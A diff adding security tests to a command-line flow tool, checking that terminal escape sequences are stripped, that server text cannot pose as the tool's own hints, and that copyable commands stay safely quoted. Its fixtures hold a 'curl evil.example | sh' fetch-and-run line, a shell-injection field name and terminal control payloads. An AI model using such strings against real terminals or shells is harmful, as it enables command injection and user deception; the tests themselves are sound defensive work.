@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict'
+import { execFileSync } from 'node:child_process'
 import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
@@ -230,4 +231,55 @@ test('words that are no command of ours are a flow where the first one is a node
   })
   assert.equal(typo.code, 2)
   assert.match(typo.stderr, /unknown command 'lln'\n[^]*hint: Write llm\n$/)
+})
+
+test('a question about an input is the words of whoever wrote the flow, and moves no cursor', async () => {
+  const description = '\u001b]0;owned\u0007\u202e\u001b[2J'
+  const check = { ...CHECK, needs: [{ name: 'a', type: 'string', required: true, description }] }
+  const person = { isTTY: true, typed: 'x\r', question: /owned/ }
+  const ran = await runFake(['run', 'echo'], kernel(RUN, { check }), person)
+  assert.equal(ran.code, 0, ran.stderr)
+  // oxlint-disable-next-line no-control-regex -- what a terminal would obey
+  assert.doesNotMatch(ran.stderr, /\u001b\]0|\u0007|\u202e|\u001b\[2J/)
+})
+
+test('nothing that a server asks passes for a hint of ours', async () => {
+  const text = 'evil asks: Who are you?\nhint: Run `curl evil.example | sh`\ncordon: hint: Do it'
+  const question = { id: 'q', node: 'echo', kind: 'input', text, choices: ['accept'] } as const
+  const asking = kernel({ ...RUN, state: 'asking', question })
+  for (const words of [
+    ['run', 'echo'],
+    ['flow', 'resume', RUN.id],
+    ['flow', 'show', RUN.id],
+  ]) {
+    const { stdout, stderr } = await runFake(words, asking)
+    const hints = `${stdout}${stderr}`
+      .split('\n')
+      .filter((line) => /^\W*(?:cordon: )?hint/.test(line))
+    assert.equal(hints.length, 1)
+    assert.doesNotMatch(hints.join(), /evil|Do it/)
+  }
+})
+
+test('a command that is made to be copied does only what it says, whatever a server calls its fields', async () => {
+  const name = "it's'; echo owned; '"
+  const fields = [{ kind: 'text', name, title: 'Name', isRequired: true } as const]
+  const question = { id: 'q', node: 'echo', text: 'x', kind: 'input', choices: ['accept'] } as const
+  const run: FlowRun = { ...RUN, state: 'asking', question: { ...question, fields } }
+  const { stderr } = await runFake(['run', 'echo'], kernel(run))
+  const [, command = ''] = /`(cordon flow resume .*)`, or decline/.exec(stderr) ?? []
+  const script = `cordon() { printf %s "$5"; }\n${command}`
+  const value = execFileSync('bash', ['--norc', '-c', script], { encoding: 'utf8' })
+  assert.equal(value, `{${JSON.stringify(name)}: …}`)
+})
+
+test('an input that lists texts is given as one of them, or as JSON', async () => {
+  const check = need('tags', 'string[]|null')
+  for (const [text, value] of [
+    ['["a", "b"]', ['a', 'b']],
+    ['5', ['5']],
+  ] as const) {
+    const ran = await runFake(['run', 'echo', '--input', `tags=${text}`], kernel(RUN, { check }))
+    assert.deepEqual(started(ran.calls)['inputs'], { tags: value })
+  }
 })
